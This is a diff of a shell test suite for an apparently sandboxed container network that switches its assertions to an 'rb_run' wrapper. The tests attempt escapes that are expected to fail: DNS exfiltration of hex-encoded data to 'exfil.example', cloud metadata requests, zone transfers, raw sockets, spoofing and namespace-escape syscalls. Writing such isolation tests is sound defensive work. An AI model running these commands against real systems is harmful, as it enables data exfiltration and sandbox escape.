@@ -207,7 +207,7 @@ teardown() {
     for f in "$BATS_TEST_TMPDIR"/cap-*.pid; do
         [ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null
     done
-    true
+    rb_default_teardown
 }
 
 @test "the instruments see what passes: allowed traffic arrives, and is logged and captured" {
@@ -216,12 +216,12 @@ teardown() {
     t=$(tag)
     before=$(world_from "$SUP")
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try dns-allowed sh -c "dig +short +time=2 +tries=1 @$SENTRY_IP $t.anthropic.com | grep -qx 160.79.104.10"
 try tcp-allowed nc -w 2 -z 160.79.104.10 443
 try udp-allowed sh -c "echo $t | nc -u -w 1 160.79.104.10 5000 | grep -q world"
 EOF
-    run up_stop
+    rb_run '?' up_stop
     assert_output --partial "> 8.8.8.8.53:"
     assert_output --partial "> 160.79.104.10.443:"
     assert_output --partial "> 160.79.104.10.5000:"
@@ -240,7 +240,7 @@ EOF
     up_start
     # 9.9.9.9 is an allowed CIDR of this nameplate and 160.79.104.10 is in
     # one: DNS ports are refused before any CIDR is looked at.
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 for r in 8.8.8.8 1.1.1.1 9.9.9.9 160.79.104.10; do
     for p in 53 5353 853; do
         try "udp:\$r:\$p" dig +notcp +time=1 +tries=1 -p \$p @\$r $t-u\$p.anthropic.com
@@ -251,7 +251,7 @@ for r in 8.8.8.8 1.1.1.1 9.9.9.9 160.79.104.10; do
 done
 EOF
     assert_all_failed 32
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(world_has "$t")" -eq 0 ]
     [ "$(world_from "$SUP")" -eq "$before" ]
@@ -267,7 +267,7 @@ EOF
     # Data in labels, other types, TCP, near misses of the allowed name
     # (no label boundary, the allowed name as a prefix, a dot inside a
     # label), bare names and reverse lookups.
-    run in_bottle $B <<EOF
+    rb_run in_bottle $B <<EOF
 q() { s=\$(dig +time=2 +tries=1 @$SENTRY_IP "\$@" 2>/dev/null | sed -n 's/.*status: \([A-Z]*\),.*/\1/p'); echo "\${s:-none} \$*"; }
 q $t-6b7a7a79726f6f747061737377726f6f74.exfil.example
 q $t.google.com
@@ -287,17 +287,16 @@ q $t
 q -x 203.0.113.77
 q -x 8.8.8.8
 EOF
-    assert_success
     [ "$(grep -c . <<<"$output")" -eq 17 ]
-    run grep -v '^NXDOMAIN ' <<<"$output"
+    rb_run 1 grep -v '^NXDOMAIN ' <<<"$output"
     assert_output ""
-    run up_stop
+    rb_run '?' up_stop
     assert_output "" # not one query went upstream
     [ "$(world_has "$t")" -eq 0 ]
 
     # The residual risk docs/security.md names: labels UNDER an allowed name do
     # reach the upstream resolver (and the name's own DNS servers).
-    run --separate-stderr podman exec $B dig +short +time=2 +tries=1 @$SENTRY_IP "$t-6b7a7a79.anthropic.com"
+    rb_run --separate-stderr '?' podman exec $B dig +short +time=2 +tries=1 @$SENTRY_IP "$t-6b7a7a79.anthropic.com"
     assert_output 160.79.104.10
     [ "$(world_has "$t-6b7a7a79.anthropic.com")" -ge 1 ]
 }
@@ -306,7 +305,7 @@ EOF
     local t
     t=$(tag)
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try axfr-sentry-notallowed sh -c "dig +time=2 +tries=1 axfr $t.google.com @$SENTRY_IP | grep -q SOA"
 try ixfr-sentry-notallowed sh -c "dig +time=2 +tries=1 ixfr=1 $t.example.org @$SENTRY_IP | grep -q SOA"
 try axfr-8.8.8.8 sh -c "dig +time=2 +tries=1 axfr anthropic.com @8.8.8.8 | grep -q SOA"
@@ -314,13 +313,13 @@ try axfr-9.9.9.9 sh -c "dig +time=2 +tries=1 axfr anthropic.com @9.9.9.9 | grep 
 try axfr-1.1.1.1 sh -c "dig +time=2 +tries=1 axfr $t.anthropic.com @1.1.1.1 | grep -q SOA"
 EOF
     assert_all_failed 5
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(world_has "$t")" -eq 0 ]
     # An allowed name is forwarded (policy: the name is allowed); the
     # transfer still yields no zone (the simulated upstream refuses, as
     # public resolvers do).
-    run --separate-stderr podman exec $B sh -c "dig +time=2 +tries=1 axfr anthropic.com @$SENTRY_IP | grep -c SOA"
+    rb_run --separate-stderr '?' podman exec $B sh -c "dig +time=2 +tries=1 axfr anthropic.com @$SENTRY_IP | grep -c SOA"
     assert_output 0
 }
 
@@ -329,7 +328,7 @@ EOF
     t=$(tag)
     before=$(world_from "$SUP")
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try mdns-dig dig -p 5353 +time=1 +tries=1 @224.0.0.251 $t.local
 try mdns-any sh -c "echo $t | nc -u -w 1 224.0.0.251 5353 | grep -q ."
 try llmnr sh -c "echo $t | nc -u -w 1 224.0.0.252 5355 | grep -q ."
@@ -338,7 +337,7 @@ try sentry-local sh -c "dig +time=1 +tries=1 @$SENTRY_IP $t.local | grep -q 'sta
 send perl -MSocket -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Proto => "udp", Broadcast => 1) or die; for my \$a ("255.255.255.255", "10.242.5.255") { \$s->send("$t", 0, pack_sockaddr_in(5353, inet_aton(\$a))) }'
 EOF
     assert_all_failed 5
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(world_from "$SUP")" -eq "$before" ]
     [ "$(world_has "$t")" -eq 0 ]
@@ -352,14 +351,14 @@ EOF
     mac=$(ip -j link show "$BR" | jq -r '.[0].address')
     IFS=: read -r a b c d e f <<<"$mac"
     ll=$(printf 'fe80::%02x%s:%sff:fe%s:%s%s' $((0x$a ^ 2)) "$b" "$c" "$d" "$e" "$f")
-    run nsenter -t "$BPID" -n ip -j -6 addr
+    rb_run nsenter -t "$BPID" -n ip -j -6 addr
     assert_output "[]"
-    run nsenter -t "$BPID" -n sh -c 'cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u'
+    rb_run '?' nsenter -t "$BPID" -n sh -c 'cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u'
     assert_output 1
 
     cap_start v6 "$BVETH" "ip6"
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try doc nc -6 -w 2 -z 2001:db8::1 443
 try host-ula nc -6 -w 2 -z fd00::2 $SINK_PORT
 try host-ula-udp sh -c "echo x | nc -6 -u -w 1 fd00::2 $SINK_PORT"
@@ -375,9 +374,9 @@ try v4mapped-dns nc -6 -w 2 -z ::ffff:8.8.8.8 53
 try v4mapped-private nc -6 -w 2 -z ::ffff:10.243.0.1 $SINK_PORT
 EOF
     assert_all_failed 13
-    run cap_stop v6
+    rb_run '?' cap_stop v6
     assert_output ""
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(sink_lines "$SINK")" -eq 0 ]
 }
@@ -385,10 +384,10 @@ EOF
 @test "the host is unreachable: enclave gateway address, its other addresses, IPv6 link-local" {
     local before
     before=$(world_from "$SUP")
-    run ip -j addr show dev "$BR"
+    rb_run ip -j addr show dev "$BR"
     [ "$(jq '.[0].addr_info | length' <<<"$output")" -eq 0 ]
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 for a in $GW_IP 10.243.0.1 192.0.2.2 10.88.0.1 10.242.5.255 255.255.255.255; do
     try "tcp:\$a" nc -w 2 -z \$a $SINK_PORT
     send sh -c "echo x | nc -u -w 1 \$a $SINK_PORT"
@@ -397,12 +396,12 @@ try ping-gw ping -c 1 -W 1 $GW_IP
 try http-gw curl -sS --max-time 3 -o /dev/null http://$GW_IP:$SINK_PORT/
 EOF
     assert_all_failed 8
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     # the host's listener (0.0.0.0 and ::) saw nothing at all
     [ "$(sink_lines "$SINK")" -eq 0 ]
     # the bridge never answered ARP for the gateway address
-    run nsenter -t "$BPID" -n ip -j neigh show $GW_IP
+    rb_run nsenter -t "$BPID" -n ip -j neigh show $GW_IP
     refute_output --regexp '"(REACHABLE|STALE|DELAY|PROBE|PERMANENT)"'
     [ "$(world_from "$SUP")" -eq "$before" ]
 }
@@ -413,7 +412,7 @@ EOF
     before2=$(world_from "$SUP2")
     up_start
     cap_start up2 "$UPVETH2" "ip and src host $SUP2"
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try other-bottle-tcp nc -w 2 -z $BOTTLE2_IP 8888
 send sh -c "echo x | nc -u -w 1 $BOTTLE2_IP 8888"
 try other-bottle-ping ping -c 1 -W 1 $BOTTLE2_IP
@@ -426,7 +425,7 @@ try world-private-22 nc -w 2 -z 10.243.0.2 22
 try podman-default-net nc -w 2 -z 10.88.0.1 $SINK_PORT
 EOF
     assert_all_failed 9
-    run in_bottle $B2 <<EOF
+    rb_run '?' in_bottle $B2 <<EOF
 try back-bottle-tcp nc -w 2 -z $BOTTLE_IP 8888
 send sh -c "echo x | nc -u -w 1 $BOTTLE_IP 8888"
 try back-bottle-ping ping -c 1 -W 1 $BOTTLE_IP
@@ -434,13 +433,13 @@ try back-sentry-dns dig +time=1 +tries=1 @$SENTRY_IP anthropic.com
 try back-entry nc -w 2 -z $SUP $ENTRY
 EOF
     assert_all_failed 4
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
-    run cap_stop up2
+    rb_run '?' cap_stop up2
     assert_output ""
-    run bottle_sink $B2
+    rb_run '?' bottle_sink $B2
     assert_output ready
-    run bottle_sink $B
+    rb_run '?' bottle_sink $B
     assert_output ready
     [ "$(sink_lines "$SINK")" -eq 0 ]
     [ "$(world_from "$SUP")" -eq "$before" ]
@@ -452,7 +451,7 @@ EOF
     before=$(world_from "$SUP")
     np=$(ctr never-private)
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try metadata-http curl -sS --max-time 3 -o /dev/null http://169.254.169.254/latest/meta-data/
 for a in 169.254.169.254 169.254.1.1 10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 240.0.0.1 0.0.0.1 10.243.0.2; do
     try "tcp:\$a:443" nc -w 2 -z \$a 443
@@ -460,22 +459,21 @@ for a in 169.254.169.254 169.254.1.1 10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 
 done
 EOF
     assert_all_failed 19
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(world_from "$SUP")" -eq "$before" ]
     # decided by the never-private rules, and no flow was ever set up
     [ "$(ctr never-private)" -ge $((np + 9)) ]
-    run nsenter -t "$SPID" -n conntrack -L -d 169.254.169.254
+    rb_run '?' nsenter -t "$SPID" -n conntrack -L -d 169.254.169.254
     refute_output --partial 169.254.169.254
 }
 
 @test "ICMP goes no further than the sentry, even to allowed addresses" {
     local ic
     ic=$(ctr icmp)
-    run --separate-stderr podman exec $B ping -c 1 -W 2 $SENTRY_IP
-    assert_success
+    rb_run --separate-stderr podman exec $B ping -c 1 -W 2 $SENTRY_IP
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 for a in 8.8.8.8 160.79.104.10 9.9.9.9 198.51.100.7 10.243.0.2 $BOTTLE2_IP 169.254.169.254; do
     try "ping:\$a" ping -c 1 -W 1 \$a
 done
@@ -483,10 +481,10 @@ try ping-big ping -c 1 -W 1 -s 4000 160.79.104.10
 try ping-ttl ping -c 1 -W 1 -t 2 160.79.104.10
 EOF
     assert_all_failed 9
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(ctr icmp)" -ge $((ic + 9)) ]
-    run nsenter -t "$SPID" -n conntrack -L -p icmp -s $BOTTLE_IP
+    rb_run '?' nsenter -t "$SPID" -n conntrack -L -p icmp -s $BOTTLE_IP
     refute_output --regexp 'dst=(8\.8\.8\.8|160\.79|9\.9\.9\.9|198\.51)'
 }
 
@@ -495,7 +493,7 @@ EOF
     t=$(tag)
     before=$(world_from "$SUP")
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try u5000 sh -c "echo $t | nc -u -w 1 198.51.100.7 5000 | grep -q world"
 try u123 sh -c "echo $t | nc -u -w 1 93.184.216.34 123 | grep -q world"
 try u5000b sh -c "echo $t | nc -u -w 1 142.250.1.1 5000 | grep -q world"
@@ -503,13 +501,13 @@ send perl -MSocket -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Proto =
 send perl -MSocket -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "203.0.113.11:5000") or die; \$s->send("$t")'
 EOF
     assert_all_failed 3
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(world_from "$SUP")" -eq "$before" ]
 }
 
 @test "the bottle cannot change its routes, addresses, sysctls or firewall rules, not even as root of a user namespace" {
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 try route-replace ip route replace default via 10.242.5.9
 try route-add ip route add 10.243.0.0/24 via $SENTRY_IP
 try route-del ip route del default
@@ -544,7 +542,7 @@ EOF
     # an empty netns, but would reach netfilter and netlink code that
     # otherwise needs CAP_NET_ADMIN. clone3 hides its flags from seccomp: it
     # is ENOSYS, and threads still start through clone.
-    run --separate-stderr podman exec $B sh -c 'exec unshare -Urn true 2>&1'
+    rb_run --separate-stderr '?' podman exec $B sh -c 'exec unshare -Urn true 2>&1'
     assert_failure
     assert_output --partial "Operation not permitted"
     # clone itself with CLONE_NEWUSER, as a runtime inside would call it:
@@ -554,14 +552,12 @@ EOF
     [ "$arch" = x86_64 ] && nr=56
     [ "$arch" = aarch64 ] && nr=220
     [ -n "$nr" ] || fail "no clone syscall number for $arch"
-    run --separate-stderr podman exec $B perl -MPOSIX -e 'my $r = syscall('$nr', 0x10000000 | 17, 0, 0, 0, 0); POSIX::_exit(0) if $r == 0; if ($r > 0) { waitpid($r, 0); print "made $r\n"; exit 1 } print $!+0, "\n"'
+    rb_run --separate-stderr '?' podman exec $B perl -MPOSIX -e 'my $r = syscall('$nr', 0x10000000 | 17, 0, 0, 0, 0); POSIX::_exit(0) if $r == 0; if ($r > 0) { waitpid($r, 0); print "made $r\n"; exit 1 } print $!+0, "\n"'
     assert_output 1
-    run --separate-stderr podman exec $B perl -e 'syscall(435, 0, 0) == -1 or die; print $!+0, "\n"'
+    rb_run --separate-stderr '?' podman exec $B perl -e 'syscall(435, 0, 0) == -1 or die; print $!+0, "\n"'
     assert_output 38
-    run --separate-stderr podman exec $B dig +short +tries=1 @$SENTRY_IP anthropic.com
-    assert_success
-    run diff "$BATS_FILE_TMPDIR/state.before" <(state)
-    assert_success
+    rb_run --separate-stderr podman exec $B dig +short +tries=1 @$SENTRY_IP anthropic.com
+    rb_run diff "$BATS_FILE_TMPDIR/state.before" <(state)
 }
 
 @test "no raw or packet sockets, no source spoofing: nothing reaches the sentry's forwarding" {
@@ -570,7 +566,7 @@ EOF
     fr=$(ctr forward-reject)
     before=$(world_from "$SUP")
     up_start
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 for p in 1 17 47 255; do
     try "raw:\$p" perl -MSocket -e "socket(my \\\$s, PF_INET, SOCK_RAW, \$p) or die \"\\\$!\\n\""
 done
@@ -588,7 +584,7 @@ try userns-packet unshare -Ur perl -MSocket -e 'socket(my \$s, 17, SOCK_RAW, 0x0
 try userns-netns-raw unshare -Urn perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_RAW, 255) or die; send(\$s, "x" x 28, 0, pack_sockaddr_in(0, inet_aton("160.79.104.10"))) or die "\$!\\n"'
 EOF
     assert_all_failed 16 'Operation not permitted|Network is unreachable|Cannot assign requested address'
-    run up_stop
+    rb_run '?' up_stop
     assert_output ""
     [ "$(world_from "$SUP")" -eq "$before" ]
     # not one of them even reached the sentry's forwarding decision
@@ -599,7 +595,7 @@ EOF
 @test "the sentry serves DNS on port 53 of its enclave address and nothing else" {
     local ir
     ir=$(ctr in-reject)
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 for p in \$(seq 1 128) 135 137 139 143 161 389 443 445 514 547 587 631 853 993 1080 3128 5353 5355 6379 8000 8080 8443 8888 $ENTRY 9090 $SINK_PORT 65535; do
     if timeout 3 nc -w 1 -z $SENTRY_IP \$p 2>/dev/null; then echo "open \$p"; fi
 done
@@ -623,7 +619,7 @@ EOF
     ed=$(ctr entry-dnat nat)
     eh=$(rb_host_pkts $M RB-E-$M)
     sink_before=$(bottle_sink $B | grep -c .)
-    run in_bottle $B <<EOF
+    rb_run '?' in_bottle $B <<EOF
 for a in $SUP 10.243.0.1 192.0.2.2 $SENTRY_IP $GW_IP 127.0.0.1; do
     try "entry:\$a" nc -w 2 -z \$a $ENTRY
 done
@@ -634,8 +630,7 @@ EOF
     [ "$(ctr entry-dnat nat)" -eq "$ed" ]
     [ "$(rb_host_pkts $M RB-E-$M)" -eq "$eh" ]
     # ... while the port works forwards, from the host, to the same listener
-    run nc -w 3 -z 127.0.0.1 $ENTRY
-    assert_success
+    rb_run nc -w 3 -z 127.0.0.1 $ENTRY
     # the listener writes its line after the handshake nc waited for
     for _ in $(seq 30); do
         [ "$(bottle_sink $B | grep -c '^tcp ')" -ge 1 ] && break
@@ -646,12 +641,9 @@ EOF
 }
 
 @test "after every attempt: the policy, the host's chains and the bottle's plumbing are unchanged and whole" {
-    run diff "$BATS_FILE_TMPDIR/state.before" <(state)
-    assert_success
-    run "$RB_BIN/rb-fw-apply" --nameplate "$NP" --check
-    assert_success
-    run "$RB_BIN/rb-fw-apply" --nameplate "$NP2" --check
-    assert_success
+    rb_run diff "$BATS_FILE_TMPDIR/state.before" <(state)
+    rb_run "$RB_BIN/rb-fw-apply" --nameplate "$NP" --check
+    rb_run "$RB_BIN/rb-fw-apply" --nameplate "$NP2" --check
     # nothing ever reached the host's listener, on any address ...
     [ "$(sink_lines "$SINK")" -eq 0 ]
     # ... which does log what reaches it (from the host itself), as does
@@ -660,9 +652,9 @@ EOF
     nc -6 -w 2 -z ::1 $SINK_PORT
     echo x | nc -u -w 1 127.0.0.1 $SINK_PORT || true
     echo x | nc -6 -u -w 1 ::1 $SINK_PORT || true
-    run grep -c -E '^(tcp|udp) ' "$SINK"
+    rb_run grep -c -E '^(tcp|udp) ' "$SINK"
     assert_output 4
     podman exec $B2 nc -w 2 -z 127.0.0.1 8888
-    run bottle_sink $B2
+    rb_run '?' bottle_sink $B2
     assert_output --partial "tcp 127.0.0.1 -> 127.0.0.1"
 }
